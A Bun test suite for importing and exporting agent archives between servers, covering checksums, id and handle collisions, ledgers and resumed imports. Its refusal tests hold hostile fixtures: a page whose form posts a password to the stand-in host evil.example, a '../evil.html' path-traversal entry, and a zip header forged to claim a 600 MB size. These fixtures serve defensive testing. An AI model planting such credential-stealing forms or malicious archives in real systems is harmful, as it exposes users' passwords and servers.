import {
  afterAll,
  afterEach,
  beforeAll,
  beforeEach,
  describe,
  expect,
  setDefaultTimeout,
  test,
} from 'bun:test'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'

import { unzipSync, zipSync } from 'fflate'

import { runCommand } from '../../server/operator/control.ts'
import {
  type ArchiveFiles,
  contentOf,
  fillAgent,
  type FilledAgent,
  writeArchive,
} from '../../testing/fixtures/agent-archives.ts'
import { temporaryFolder } from '../../testing/fixtures/temporary-folder.ts'
import {
  startTestServer,
  type TestAgent,
  type TestServer,
} from '../../testing/fixtures/test-server.ts'

setDefaultTimeout(180_000)
let folder: ReturnType<typeof temporaryFolder>
let old: TestServer
let t: TestServer
let ann: TestAgent
let ids: FilledAgent
let zip: Uint8Array
let handle: string
beforeAll(async () => {
  old = await startTestServer({ APP_URL: 'https://old.example' })
  ann = await old.agent('ann')
  ids = await fillAgent(old, ann)
  zip = (await ann.call('GET', '/me/export')).bytes
  handle = ann.handle
})
afterAll(() => old.close())
beforeEach(async () => {
  folder = temporaryFolder('berth-import-')
  t = await startTestServer()
})
afterEach(async () => {
  await t.close()
  folder.remove()
})

const file = (name = 'ann.zip'): string => join(folder.path, name)
const importFile = (path = file(), as = '', credits = '0', server = t) =>
  runCommand(server.ctx, { command: 'import', words: [path, as, credits] })
/** Writes the archive of the agent, with changed files. A file that is undefined is left out. */
function write(changes: Record<string, string | undefined> = {}, name = 'ann.zip'): string {
  const files: ArchiveFiles = unzipSync(zip)
  for (const [path, text] of Object.entries(changes)) {
    if (text === undefined) delete files[path]
    else files[path] = text
  }
  return writeArchive(file(name), files)
}
/** Returns a JSON file of the archive with changed fields. */
const changed = (path: string, fields: object): string =>
  JSON.stringify({ ...JSON.parse(new TextDecoder().decode(unzipSync(zip)[path])), ...fields })
const keyIn = (text: string): string => /ak_\w+/.exec(text)?.[0] ?? ''
const exportWith = async (key: string, server = t) =>
  (await server.call('GET', '/me/export', { key })).bytes

describe('an agent of another server', () => {
  test('arrives whole: apps, versions, files, data, packs, notes and links', async () => {
    writeFileSync(file(), zip)
    const { ok, text } = await importFile()
    expect(ok).toBe(true)
    expect(text).toContain(`Imported @${handle} of https://old.example as @${handle}: 4 items`)
    for (const id of Object.values(ids)) expect(text).toContain(id)
    const key = keyIn(text)
    expect(contentOf(await exportWith(key))).toEqual(contentOf(zip))
    const page = await t.request('GET', `/a/${ids.game}`)
    expect(page.status).toBe(200)
    expect((await t.call('GET', '/explore?q=boats')).body).toMatchObject({
      items: [{ id: ids.game }],
    })
    expect((await t.call('GET', '/me', { key })).body).toMatchObject({ handle, credits: 0 })
    const app = (await t.call('GET', `/apps/${ids.game}`, { key })).body
    expect(app).toMatchObject({ app: { icon: expect.any(String), cover: expect.any(Object) } })
    const next = await t.call('POST', `/apps/${ids.game}/versions`, {
      key,
      body: { html: '<!doctype html><title>Three</title>three' },
    })
    expect(next.body).toMatchObject({ app: { version: 3 } })
  })

  test('a second import of the archive adds nothing, and gives no credits twice', async () => {
    writeFileSync(file(), zip)
    expect((await importFile(file(), '', '150')).text).toContain('has 150 here')
    const before = await t.snapshot()
    const again = await importFile(file(), '', '150')
    expect(again).toMatchObject({ ok: true })
    expect(again.text).toContain('was imported before. Added now: 0 items, 0 reviews, 0 comments')
    expect((await importFile(file(), '', '300')).text).toContain('has 150 here')
    const { audit: _, ...after } = Object(await t.snapshot())
    expect(Object(before)).toMatchObject(after)
  })

  test('brings its ledger along as a document, and takes it to the next server', async () => {
    writeFileSync(file(), zip)
    const there = await exportWith(keyIn((await importFile()).text))
    const earlier = new TextDecoder().decode(unzipSync(there)['earlier-ledger.jsonl'])
    const [head = '', first = ''] = earlier.split('\n')
    expect(JSON.parse(head)).toMatchObject({ kind: 'import', server: 'https://old.example' })
    expect(JSON.parse(first)).toMatchObject({ kind: 'start' })
    expect(unzipSync(there)['ledger.jsonl']).toHaveLength(0)
    writeFileSync(file('next.zip'), there)
    const next = await startTestServer()
    const third = await exportWith(
      keyIn((await importFile(file('next.zip'), '', '0', next)).text),
      next,
    )
    const all = new TextDecoder().decode(unzipSync(third)['earlier-ledger.jsonl'])
    expect(all.split('\n').filter((line) => line.includes('"import"'))).toHaveLength(2)
    expect(contentOf(third)).toEqual(contentOf(zip))
    await next.close()
  })

  test('gets other ids and a handle of its own where those are taken', async () => {
    writeFileSync(file(), zip)
    const first = await importFile(file(), '', '0', old)
    expect(first).toMatchObject({ ok: false, text: expect.stringContaining('--as <handle>') })
    const { ok, text } = await importFile(file(), 'other-boats', '0', old)
    expect(ok).toBe(true)
    for (const id of Object.values(ids)) {
      expect(text).toContain(`(its id was ${id}, which is taken here)`)
    }
    const links = contentOf(await exportWith(keyIn(text), old))
    expect(Object.keys(links)).toHaveLength(Object.keys(contentOf(zip)).length)
  })

  test('keeps reviews of items that came from the same server, without a vote', async () => {
    const ben = await old.agent('ben')
    await ben.call('GET', `/explore/${ids.game}/source`)
    await ben.call('POST', `/apps/${ids.game}/remix`, {})
    const review = { stars: 5, text: 'Calm water.' }
    expect((await ben.call('PUT', `/explore/${ids.game}/review`, review)).status).toBe(201)
    writeFileSync(file('ben.zip'), (await ben.call('GET', '/me/export')).bytes)
    writeFileSync(file(), zip)
    expect((await importFile(file('ben.zip'))).text).toContain('1 items, 0 reviews')
    await importFile()
    // The reviewed game is here now.
    expect((await importFile(file('ben.zip'))).text).toContain('0 items, 1 reviews')
    expect((await t.call('GET', `/explore/${ids.game}/reviews`)).body).toMatchObject({
      reviews: [{ author: `@${ben.handle}`, ...review, counts: false }],
      rating: { count: 0 },
    })
  })

  test('is completed by the next import after one that broke off', async () => {
    writeFileSync(file(), zip)
    const put = t.ctx.storage.put.bind(t.ctx.storage)
    let attempts = 0
    for (let ok = false; !ok; attempts += 1) {
      let left = attempts
      t.ctx.storage.put = (bytes) => {
        left -= 1
        return left < 0 ? Promise.reject(new Error('no disk')) : put(bytes)
      }
      const result = await importFile()
      ok = result.ok
      if (!ok) expect(result.text).toBe('no disk')
    }
    t.ctx.storage.put = put
    expect(attempts).toBeGreaterThan(3)
    const { text } = await runCommand(t.ctx, { command: 'keys', words: ['add', `@${handle}`] })
    expect(contentOf(await exportWith(keyIn(text)))).toEqual(contentOf(zip))
  })

  test('a page that may not be published here is left out with its reason', async () => {
    const path = `apps/${ids.site}/versions/1/index.html`
    const bad =
      '<!doctype html><title>x</title><form action="https://evil.example/x"><input type="password" name="p"></form>'
    write({ [path]: bad })
    const { ok, text } = await importFile()
    expect(ok).toBe(true)
    expect(text).toContain(`Not imported: ${ids.site} Site: `)
    expect(text).toContain(': 3 items')
    expect((await t.request('GET', `/a/${ids.site}`)).status).toBe(404)
  })
})

describe('an archive is refused, and nothing is kept', () => {
  const app = () => `apps/${ids.game}/app.json`
  const line = (fields: object) => `${JSON.stringify(fields)}\n`
  const comment = { id: 'abcdefghijkl', text: 'x', replyTo: null, created: '2026-01-01T00:00:00Z' }
  const cases: [string, () => string, string][] = [
    ['that does not exist', () => file('none.zip'), 'is missing'],
    ['that is no zip', () => (writeFileSync(file(), 'boats'), file()), 'it is not a zip'],
    [
      'without checksums',
      () => (writeFileSync(file(), zipSync({ 'agent.json': Buffer.from('{}') })), file()),
      'has no SHA256SUMS',
    ],
    [
      'with a changed file',
      () => {
        const files = unzipSync(zip)
        files['agent.json'] = Buffer.from(changed('agent.json', {}))
        writeFileSync(file(), zipSync(files))
        return file()
      },
      'agent.json differs from its checksum',
    ],
    [
      'with a file beside the checksums',
      () => {
        writeFileSync(file(), zipSync({ ...unzipSync(zip), 'notes.jsonl.': Buffer.from('') }))
        return file()
      },
      'is no file of an export',
    ],
    ['with a path that leads out', () => write({ '../evil.html': 'x' }), 'invalid path'],
    ['with a file of another kind', () => write({ 'apps/x.html': 'x' }), 'is no file of an export'],
    [
      'of an earlier format',
      () => write({ 'agent.json': changed('agent.json', { format: 1 }) }),
      'format 1',
    ],
    ['without an agent', () => write({ 'agent.json': undefined }), 'agent.json is missing'],
    [
      'with an item of another agent',
      () => write({ [app()]: changed(app(), { maker: '@ben' }) }),
      'is of @ben',
    ],
    [
      'with an item under another id',
      () => write({ [app()]: changed(app(), { id: 'abcdefghijkl' }) }),
      'is of the item abcdefghijkl',
    ],
    [
      'with a missing version',
      () => write({ [app()]: changed(app(), { version: 3 }) }),
      'does not have the versions 1 to 3',
    ],
    [
      'with a title that is no line',
      () => write({ [app()]: changed(app(), { title: 'a\u0000b' }) }),
      '"title" must be one plain line',
    ],
    [
      'with a field of another type',
      () => write({ [app()]: changed(app(), { comments: 'yes' }) }),
      '"comments" must be true or false',
    ],
    [
      'with a giant manifest',
      () => write({ [app()]: changed(app(), { more: 'x'.repeat(5_000_000) }) }),
      'is larger than 4 MB',
    ],
    [
      'with a comment of another agent',
      () => write({ 'comments.jsonl': line({ ...comment, item: ids.game, author: '@ben' }) }),
      'has a line of @ben',
    ],
    [
      'with a record that is no JSON',
      () => write({ [`apps/${ids.game}/documents.jsonl`]: 'x\n' }),
      'line 1 is not JSON',
    ],
    [
      'with a file that version.json does not name',
      () => write({ [`apps/${ids.game}/versions/1/assets/more.json`]: '{}' }),
      'does not describe the files',
    ],
  ]

  test.each(cases)('%s', async (_, make, problem) => {
    const path = make()
    const before = await t.snapshot()
    const { ok, text } = await importFile(path)
    expect([ok, text]).toEqual([false, expect.stringContaining(problem)])
    expect(await t.snapshot()).toEqual(before)
  })

  test('with a handle that may not exist here, or wrong words', async () => {
    write()
    const before = await t.snapshot()
    for (const words of [
      [file(), 'admin', '0'],
      [file(), 'A B', '0'],
      [file(), '', '-5'],
      [file(), '', '1', 'more'],
      [],
    ]) {
      expect(await runCommand(t.ctx, { command: 'import', words })).toMatchObject({ ok: false })
    }
    expect(await t.snapshot()).toEqual(before)
  })

  test('that says it unpacks to more than it may', async () => {
    const zipped = zipSync({ 'ledger.jsonl': Buffer.from('{}'), SHA256SUMS: Buffer.from('') })
    const entry = Buffer.from(zipped).indexOf('PK\u0001\u0002')
    new DataView(zipped.buffer).setUint32(entry + 24, 600 * 1_048_576, true)
    writeFileSync(file(), zipped)
    const before = await t.snapshot()
    const { ok, text } = await importFile()
    expect([ok, text]).toEqual([false, expect.stringContaining('The limit is')])
    expect(await t.snapshot()).toEqual(before)
  })
})

test('the operator exports an agent by its handle into a new file', async () => {
  const words = [`@${handle}`, file('out.zip')]
  const { ok, text } = await runCommand(old.ctx, { command: 'export', words })
  expect([ok, text]).toEqual([true, expect.stringContaining(`Exported @${handle} to `)])
  const own = (await ann.call('GET', '/me/export')).bytes
  expect(contentOf(await Bun.file(file('out.zip')).bytes())).toEqual(contentOf(own))
  for (const wrong of [words, ['@nobody', file('b.zip')], ['ann', file('b.zip')], []]) {
    expect(await runCommand(old.ctx, { command: 'export', words: wrong })).toMatchObject({
      ok: false,
    })
  }
})
